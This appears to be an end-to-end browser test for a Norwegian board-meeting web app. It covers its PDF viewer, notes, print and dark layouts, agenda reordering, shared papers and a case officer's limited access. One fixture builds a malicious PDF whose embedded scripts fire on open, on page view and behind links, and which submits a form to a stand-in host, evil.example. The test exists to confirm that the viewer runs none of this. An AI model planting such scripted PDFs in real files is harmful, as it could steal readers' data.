// Reading and arranging: a PDF in its page with notes beside it, with scripts and without, on a phone, a tablet and in the
// dark; an evil one that runs nothing; an agenda put in order by hand; a paper that two cases share; a case officer.

import { byPointer, faults, linkTo, problems, reflow, run, shot, signIn, signInLink } from "./lib.mjs";

const phone = { width: 390, height: 844 };

/** A PDF of some pages, each with its words; `extra` is put into its catalog. */
function pdf(pages, extra = "", annotations = "") {
  const kids = pages.map((_, index) => `${4 + 2 * index} 0 R`).join(" ");
  const objects = [
    `<</Type/Catalog/Pages 2 0 R${extra}>>`,
    `<</Type/Pages/Kids[${kids}]/Count ${pages.length}>>`,
    "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
  ];
  pages.forEach((words, index) => {
    const stream = `BT /F 24 Tf 60 740 Td (${words}) Tj 0 -40 Td (Neste linje) Tj ET 60 60 475 600 re S`;
    objects.push(`<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]${annotations}/Resources<</Font<</F 3 0 R>>>>/Contents ${5 + 2 * index} 0 R>>`);
    objects.push(`<</Length ${stream.length}>>stream\n${stream}\nendstream`);
  });
  let text = "%PDF-1.7\n";
  const at = objects.map((object, index) => {
    const offset = text.length;
    text += `${index + 1} 0 obj${object}endobj\n`;
    return offset;
  });
  const start = text.length;
  const lines = at.map((offset) => `${String(offset).padStart(10, "0")} 00000 n \n`).join("");
  const size = objects.length + 1;
  text += `xref\n0 ${size}\n0000000000 65535 f \n${lines}trailer<</Size ${size}/Root 1 0 R>>\nstartxref\n${start}\n%%EOF`;
  return Buffer.from(text, "latin1");
}

// Scripts where a reader of PDF might run them: on opening, on a page, behind a link, in a field.
const script = "<</S/JavaScript/JS(app.alert\\('evil'\\); this.submitForm\\('https://evil.example/'\\); globalThis.evil = 1; document.title = 'evil')>>";
const evil = pdf(
  ["Uskyldig side"],
  `/OpenAction ${script}/AA<</WC ${script}>>/Names<</JavaScript<</Names[(a) ${script}]>>>>`,
  `/AA<</O ${script}>>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A ${script}>>` +
    `<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI(javascript:globalThis.evil=1)>>>>]`,
);

const refused = (line) => line.includes("422");

await run(async (browser, check, { links, mails }) => {
  const look = async (page, name) => {
    check(`the ${name} page is in order`, (await faults(page)).filter((line) => !refused(line)));
    if (process.env.STYRINGSRAD_TEST_SHOTS) await shot(page, `reading-${name}`);
  };
  const upload = async (page, at, title, name, buffer) => {
    await page.goto(`${at}/papers/new`);
    await page.fill("#title", title);
    await page.selectOption("#part", "attachment");
    await page.setInputFiles("#file", { name, mimeType: "application/pdf", buffer });
    await byPointer(page, 'main form button[type="submit"]');
    await page.waitForURL((url) => /^\/papers\/[0-9a-f-]+$/.test(url.pathname));
    return new URL(page.url()).pathname;
  };
  const drawn = (page, number) => page.waitForSelector(`#page-${number}[data-drawn] .textLayer span`);

  const keeper = await browser.page("nb", phone);
  await signIn(keeper, links.secretary);
  await keeper.goto("/boards?lang=nb");
  await byPointer(keeper, 'main a[href^="/boards/"]:has-text("Styringsrådet")');
  await byPointer(keeper, 'main a[href$="/cases"]');
  const cases = new URL(keeper.url()).pathname;
  await byPointer(keeper, 'main a[href^="/cases/"]:has-text("Skydrift")');
  const path = new URL(keeper.url()).pathname;

  // A PDF is drawn in its page, as far as it is read.
  const words = Array.from({ length: 30 }, (_, index) => `Side nummer ${index + 1}`);
  const paper = await upload(keeper, path, "Tretti sider", "tretti.pdf", pdf(words));
  await drawn(keeper, 1);
  check("the text is there to be read and selected", (await keeper.textContent("#page-1 .textLayer")).includes("Side nummer 1"));
  check("pages out of sight are not drawn", (await keeper.locator(".pdf-page[data-drawn]").count()) < 10);
  check("every page has its place", (await keeper.locator(".pdf-page").count()) === 30);
  check("it says where one is", (await keeper.textContent("[data-count]")) === "av 30");
  // The pages take their new width a moment after the key.
  const fits = () => keeper.waitForFunction(() => {
    const box = document.querySelector("[data-pages]");
    return box.scrollWidth <= box.clientWidth;
  }).then(() => true, () => false);
  check("a page fits the phone's width", await fits());
  await look(keeper, "pdf-on-a-phone");
  const before = (await keeper.locator("#page-1 .pdf-sheet").boundingBox()).width;
  await keeper.click('[data-act="in"]');
  await drawn(keeper, 1);
  check("it can be made larger", (await keeper.locator("#page-1 .pdf-sheet").boundingBox()).width > before);
  check("and that is told", (await keeper.textContent("[data-words]")).includes("125 prosent"));
  await keeper.focus("[data-pages]");
  await keeper.keyboard.press("0");
  check("and fit again with a key", await fits());
  await keeper.keyboard.press("PageDown");
  // The box rolls on for a while after the key.
  const place = () => keeper.evaluate(() => document.querySelector("[data-pages]").scrollTop);
  for (let before = -1, now = await place(); before !== now; now = await place()) {
    before = now;
    await keeper.waitForTimeout(400);
  }
  await keeper.fill("[data-number]", "20");
  await keeper.keyboard.press("Enter");
  await drawn(keeper, 20);
  check("one goes to a page by its number", (await keeper.inputValue("[data-number]")) === "20");
  const isOnTop = keeper.waitForFunction(() => {
    const tops = ["[data-pages]", "#page-20"].map((of) => document.querySelector(of).getBoundingClientRect().top);
    return Math.abs(tops[0] - tops[1]) < 20;
  });
  check("which stands on top then", await isOnTop.then(() => true, () => false));
  await keeper.fill("[data-number]", "99");
  await keeper.keyboard.press("Enter");
  check("a number of no page is put back", (await keeper.inputValue("[data-number]")) === "20");
  check("and told", (await keeper.textContent("[data-words]")).includes("Skriv 1–30."));
  check("what is left behind is let go", (await keeper.locator("#page-1[data-drawn]").count()) === 0);
  await keeper.locator("#page-20 button").click();
  check("a note begins at its page", (await keeper.inputValue("#page")) === "20");
  check("and is ready to be typed", await keeper.evaluate(() => document.activeElement.id === "note"));
  await keeper.keyboard.type("Hvor kommer tallet fra?");
  await byPointer(keeper, 'form[action$="/notes"] button[type="submit"]');
  await drawn(keeper, 20);
  check("the note stands at its page", (await keeper.textContent("#page-20 .pdf-notes li")).includes("Hvor kommer tallet fra?"));
  check("and one comes back there", (await keeper.inputValue("[data-number]")) === "20");
  check("with the focus", await keeper.evaluate(() => document.activeElement.id === "page-20"));
  await look(keeper, "pdf-with-a-note");
  await keeper.fill("#note", "Står ikke der");
  await keeper.fill("#page", "31");
  await byPointer(keeper, 'form[action$="/notes"] button[type="submit"]');
  check("a page that is not there is told at its field", (await keeper.locator('.ds-error-summary a[href="#page"]').count()) === 1);
  check("with how many there are", (await keeper.textContent(".ds-error-summary")).includes("30 sider"));
  await drawn(keeper, 1);
  await keeper.goto(paper);
  await drawn(keeper, 1);

  // On paper: no viewer, no menus, no forms.
  check("what is for paper is not on the screen", !(await keeper.locator(".print-only").isVisible()));
  await keeper.emulateMedia({ media: "print" });
  check("the viewer is not printed", !(await keeper.locator(".pdf").isVisible()));
  check("but where the document is", await keeper.locator(".print-only").isVisible());
  check("nor the notes", !(await keeper.locator("#note").isVisible()));
  for (const menu of ["body > header", "body > nav", "main a.ds-button", "#notes", "#versions"]) {
    check(`nor ${menu}`, !(await keeper.locator(menu).first().isVisible()));
  }
  check("the sheet says which case it is of", await keeper.locator(`.ds-breadcrumbs a[href="${path}"]`).isVisible());
  check("and no colour is spent on it", await keeper.evaluate(() => {
    const tag = getComputedStyle(document.querySelector("main .ds-tag"));
    const link = document.querySelector(".ds-breadcrumbs a");
    const around = getComputedStyle(link.parentElement);
    return tag.backgroundColor === "rgba(0, 0, 0, 0)" && getComputedStyle(link).color === around.color;
  }));
  await keeper.emulateMedia({ media: "screen" });

  // Other windows and other readers.
  for (const [name, language, options] of [
    ["dark", "nn", { ...phone, dark: true }],
    ["tablet", "nb", { width: 820, height: 1180 }],
    ["narrow", "nn", { width: 320, height: 640 }],
    ["large-type", "nb", { width: 640, height: 450 }],
  ]) {
    const page = await browser.page(language, options);
    await page.context().addCookies(await keeper.context().cookies());
    await page.goto(`${paper}?lang=${language}`);
    await drawn(page, 1);
    await look(page, `pdf-${name}`);
    if (options.dark) {
      const colour = await page.evaluate(() => getComputedStyle(document.querySelector(".pdf-sheet")).backgroundColor);
      check("paper is white in the dark", colour === "rgb(255, 255, 255)");
    }
    await page.context().close();
  }
  const plain = await browser.page("nb", { ...phone, noJs: true });
  await plain.context().addCookies(await keeper.context().cookies());
  await plain.goto(paper);
  check("without scripts there is the link alone", (await plain.locator(".pdf").isVisible()) === false && (await plain.locator('main a[href$="/file"]').count()) === 1);

  // What cannot be drawn says so; what is evil runs nothing.
  await upload(keeper, path, "Ødelagt", "broken.pdf", Buffer.from("%PDF-1.7\nikke noe mer"));
  await keeper.waitForFunction(() => document.querySelector("[data-words]").textContent.includes("kan ikke vises"));
  await look(keeper, "pdf-broken");
  let dialogs = 0;
  keeper.on("dialog", (dialog) => { dialogs += 1; dialog.dismiss(); });
  await upload(keeper, path, "Uskyldig", "evil.pdf", evil);
  await drawn(keeper, 1);
  await keeper.locator("#page-1 .pdf-sheet").click();
  await keeper.waitForTimeout(800);
  check("an evil PDF opens nothing", dialogs === 0);
  check("and runs nothing", await keeper.evaluate(() => globalThis.evil === undefined && document.title.startsWith("Uskyldig")));
  check("nothing that the viewer needs is blocked, and nothing is asked elsewhere", problems(keeper).filter((line) => !refused(line)));

  // The agenda is put in order by hand.
  await keeper.goto("/me?lang=nb");
  await byPointer(keeper, 'main a[href^="/meetings/"]');
  const meeting = new URL(keeper.url()).pathname;
  await keeper.setViewportSize({ width: 1100, height: 1400 });
  await keeper.goto(`${meeting}/agenda?lang=nb`);
  const order = () => keeper.locator("[data-drag]").evaluateAll((handles) => handles.map((handle) => handle.dataset.drag));
  const first = await order();
  await look(keeper, "agenda");
  // With a hand that is not steady: the pointer leaves the handle that it took.
  const drag = async (from, to, aside, end) => {
    const a = await keeper.locator("[data-drag]").nth(from).boundingBox();
    const b = await keeper.locator("[data-drag]").nth(to).boundingBox();
    await keeper.mouse.move(a.x + 20, a.y + 20);
    await keeper.mouse.down();
    await keeper.mouse.move(b.x + 20 + aside, b.y + 10, { steps: 8 });
    await keeper.mouse.move(b.x + 20 + aside, b.y + 4, { steps: 4 });
    await end();
  };
  await drag(2, 0, 0, async () => {
    check("it is told where it would stand", (await keeper.textContent("[data-place-told]")).startsWith("Plass "));
    await keeper.keyboard.press("Escape");
    await keeper.mouse.up();
  });
  check("Escape gives up", JSON.stringify(await order()) === JSON.stringify(first));
  await drag(2, 0, 80, () => Promise.all([keeper.waitForEvent("load"), keeper.mouse.up()]));
  const second = await order();
  check("the dragged item stands first", second[0] === first[2] && second.length === first.length);
  await keeper.reload();
  check("and stays there", JSON.stringify(await order()) === JSON.stringify(second));
  await look(keeper, "agenda-dragged");
  await keeper.setViewportSize(phone);
  await look(keeper, "agenda-on-a-phone");

  // A paper that two cases share.
  await keeper.goto(`${meeting}/agenda?lang=nn`);
  const onAgenda = await keeper.locator('main td a[href^="/cases/"]').evaluateAll((found) => found.map((link) => link.getAttribute("href")));
  const other = onAgenda.find((href) => href !== path);
  await keeper.goto(`${other}?lang=nn`);
  await byPointer(keeper, 'main a[href$="/papers/shared"]');
  await look(keeper, "share");
  await byPointer(keeper, 'main form button[type="submit"]');
  check("a paper must be chosen", (await keeper.locator(".ds-error-summary li").count()) === 1);
  await keeper.selectOption("#paper", { index: 1 });
  await byPointer(keeper, 'main form button[type="submit"]');
  check("the case refers to it", (await keeper.textContent("main")).includes("Papir i andre saker"));
  await look(keeper, "shared");
  await keeper.goto(`${meeting}/papers?lang=nn`);
  await look(keeper, "room");
  await keeper.setViewportSize({ width: 820, height: 1180 });
  for (const [name, address] of [["room", `${meeting}/papers`], ["paper", paper]]) {
    await keeper.goto(`${address}?lang=nn`);
    await keeper.evaluate(() => { document.documentElement.style.fontSize = "200%"; });
    check(`the ${name} holds twice as large type`, await reflow(keeper));
    if (process.env.STYRINGSRAD_TEST_SHOTS) await shot(keeper, `reading-${name}-200`);
  }
  await keeper.goto(`${meeting}/papers?lang=nn`);
  await keeper.emulateMedia({ media: "print" });
  check("the printed room has no menus", !(await keeper.locator("body > header").isVisible()));
  check("but says whose it is", await keeper.locator(".ds-breadcrumbs").isVisible());
  if (process.env.STYRINGSRAD_TEST_SHOTS) await shot(keeper, "reading-room-print");
  await keeper.emulateMedia({ media: "screen" });
  await keeper.setViewportSize(phone);

  // No word is wider than a phone, in type twice as large.
  await keeper.goto("/accessibility?lang=nb");
  await keeper.evaluate(() => { document.documentElement.style.fontSize = "200%"; });
  check("a phone holds twice as large type", await reflow(keeper));

  // Someone from outside prepares one case.
  await keeper.goto(`${path}?lang=nb`);
  await keeper.locator('#officers ~ details summary, section:has(#officers) details summary').first().click();
  await byPointer(keeper, 'form[action$="/officers"] button[type="submit"]');
  check("a name and an address are asked for", (await keeper.locator(".ds-error-summary li").count()) === 2);
  await look(keeper, "officer-mistaken");
  await keeper.fill("#officer-name", "Sara Saksbehandler");
  await keeper.fill("#officer-address", "sara@ks.example");
  await keeper.selectOption("#officer-language", "nn");
  await byPointer(keeper, 'form:has(#officer-name) button[type="submit"]');
  check("she is named", (await keeper.textContent("main")).includes("Sara Saksbehandler"));
  await look(keeper, "officer");
  const told = await linkTo(mails, "sara@ks.example", /https?:\/\/\S+\/cases\/[0-9a-f-]+/);
  const sara = await browser.page("nn", phone);
  await sara.goto(told);
  await sara.fill('main input[type="email"]', "sara@ks.example");
  await Promise.all([sara.waitForEvent("load"), sara.locator('main form button[type="submit"]').first().click()]);
  await signIn(sara, await linkTo(mails, "sara@ks.example", signInLink));
  await sara.goto(`${path}?lang=nn`);
  check("she sees her case", (await sara.locator('main a[href$="/papers/new"]').count()) === 1);
  await look(sara, "case-of-an-officer");
  await sara.goto("/me?lang=nn");
  check("and finds it again", (await sara.locator(`main a[href="${path}"]`).count()) === 1);
  await look(sara, "me-of-an-officer");
  check("and nothing else", (await sara.request.get(other)).status() === 404 && (await sara.request.get(cases)).status() === 404);

  // Once it is out, a case is read on its page: what is a PDF is unfolded there.
  await keeper.goto(`${meeting}/papers/dispatch?lang=nb`);
  await byPointer(keeper, 'main form:has(input[name="papers"]) button[type="submit"]');
  const member = await browser.page("nn", phone);
  await signIn(member, links.member);
  await member.goto(`${path}?lang=nn`);
  for (const title of ["Tretti sider", "Uskyldig"]) {
    const folded = member.locator("details:has([data-pdf])").filter({ hasText: title });
    check(`${title} is folded`, !(await folded.locator(".pdf").isVisible()));
    await folded.locator("summary").click();
    await folded.locator(".pdf-page[data-drawn]").first().waitFor();
    check(`${title} takes no notes there`, (await folded.locator(".pdf-page button").count()) === 0);
  }
  check("what was unfolded is read", (await member.locator(".textLayer span").allTextContents()).some((words) => words.includes("Side nummer 1")));
  await look(member, "case");
});
